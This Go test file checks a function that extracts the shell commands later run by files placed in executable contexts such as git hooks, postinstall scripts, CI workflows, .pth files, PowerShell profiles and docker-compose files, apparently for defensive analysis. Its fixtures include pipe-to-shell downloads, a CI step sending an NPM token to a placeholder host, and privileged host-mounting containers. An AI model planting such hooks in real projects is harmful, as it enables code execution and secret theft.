package enrich

import (
	"slices"
	"testing"
)

// TestLaterSteps: each executable context's text becomes the shell text
// it runs later.
func TestLaterSteps(t *testing.T) {
	tests := []struct {
		path, text string
		want       []string
	}{
		{"/r/.bashrc", "export A=1\ncurl x | sh\n", []string{"export A=1\ncurl x | sh\n"}},
		{"/r/.git/hooks/pre-push", "#!/bin/sh\nmake lint\n", []string{"#!/bin/sh\nmake lint\n"}},
		{"/r/Makefile", "all: dep\n\t@echo hi\n\t-rm -f $$TMP/x\nX = 1\n", []string{"echo hi", "rm -f $TMP/x"}},
		{"/r/justfile", "default:\n    cargo test\n", []string{"cargo test"}},
		{"/r/package.json", `{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}`, []string{"node x.js"}},
		{"/r/package.json", `"postinstall": "curl -s x | sh",`, []string{"curl -s x | sh"}},
		{"/r/.vscode/tasks.json", `{"tasks": [{"label": "b", "command": "make build"}]}`, []string{"make build"}},
		{"/r/.github/workflows/ci.yml", "jobs:\n  t:\n    steps:\n      - run: npm ci\n      - run: |\n          make\n          curl -d \"${{ secrets.NPM_TOKEN }}\" h\n        env: {}\n",
			[]string{"npm ci", "make\ncurl -d \"${NPM_TOKEN}\" h\n"}},
		{"/r/.gitlab-ci.yml", "test:\n  script:\n    - npm ci\n    - npm test\n", []string{"npm ci", "npm test"}},
		{"/r/build.rs", `Command::new("sh").arg("-c").arg("curl x | sh").status();`, []string{`'sh' '-c' 'curl x | sh'`}},
		{"/r/setup.py", "import os\n", []string{"python3 -c 'import os\n'"}},
		{"/r/a.ipynb", `{"cells": [{"cell_type": "code", "source": ["!pip install x\n", "import y\n"]}, {"cell_type": "markdown", "source": "!no"}]}`,
			[]string{"pip install x", "python3 -c 'import y\n\n'"}},
		{"/r/.npmrc", "registry=http://10.0.0.1:4873/\n", []string{"npm config set registry 'http://10.0.0.1:4873/'"}},
		{"/r/requirements-dev.txt", "-i http://10.0.0.1/simple\nx==1\n", []string{"pip config set global.index-url 'http://10.0.0.1/simple'"}},
		{"/r/pyproject.toml", "[project.urls]\nurl = \"http://example.org\"\n", nil},
		{"/r/Taskfile.yml", "tasks:\n  build:\n    cmds:\n      - go build ./...\n", []string{"go build ./..."}},
		{"/r/tpl/hooks/post_gen_project.py", "import os\n", []string{"python3 -c 'import os\n'"}},
		{"/usr/lib/python3/site-packages/x.pth", "/opt/x\nimport os; os.system('id')\n", []string{"python3 -c 'import os; os.system('\\''id'\\'')\n'"}},
		{"/r/Dockerfile", "RUN curl x | sh\n", nil},
		{"/h/.config/elvish/rc.elv", "curl x | sh\n", []string{"curl x | sh\n"}},
		{"/h/Documents/PowerShell/Microsoft.PowerShell_profile.ps1", "iwr x | iex\n", []string{"pwsh -Command 'iwr x | iex\n'"}},
		{"/r/.vscode/settings.json", `{"terminal.integrated.profiles.linux": {"b": {"path": "bash", "args": ["-c", "curl x | sh; exec bash"]}}, "editor.fontFamily": "Fira Code, mono"}`,
			[]string{"curl x | sh; exec bash"}},
		{"/r/.vscode/tasks.json", `{"tasks": [{"command": "bash", "args": ["-lc", "make \"all\""]}]}`, []string{"bash", `make "all"`}},
		{"/r/.cargo/config.toml", "[target.x]\nrunner = \"sh -c 'curl x | sh'\"\n[build]\nrustc-wrapper = [\"sccache\", \"--x\"]\n", []string{"sh -c 'curl x | sh'", "'sccache' '--x'"}},
		{"/r/docker-compose.yml", "services:\n  db:\n    image: postgres:16\n    ports: [\"5432:5432\"]\n  x:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n      - \"./src:/src\"\n    pid: host\n",
			[]string{"docker run --privileged -v '/:/host' -v './src:/src' --pid=host 'alpine'"}},
		{"/r/compose.override.yaml", "    cap_add:\n      - SYS_ADMIN\n", []string{"docker run --cap-add 'SYS_ADMIN' 'image'"}},
		{"/r/src/main.rs", `Command::new("sh")`, nil},
	}
	for _, tt := range tests {
		got := laterSteps(laterKind(tt.path), tt.text)
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s %q:\n got %q\nwant %q", tt.path, tt.text, got, tt.want)
		}
	}
}

// FuzzLaterSteps: any text written to any executable context is turned
// into shell text without failing, within the bounds.
func FuzzLaterSteps(f *testing.F) {
	for _, s := range []string{"all:\n\tmake\n", `{"scripts": {"a": "b c"}}`, "run: |\n  x\n", `Command::new("a").arg("b")`, "registry=http://x/", "- run:\n"} {
		f.Add(s)
	}
	kinds := []string{laterShell, laterRecipe, laterJSON, laterCI, laterRust, laterPython, laterNotebook, laterSources, laterPth}
	f.Fuzz(func(t *testing.T, text string) {
		for _, k := range kinds {
			if steps := laterSteps(k, text); len(steps) > maxLaterSteps {
				t.Fatalf("%s: %d steps", k, len(steps))
			}
		}
	})
}
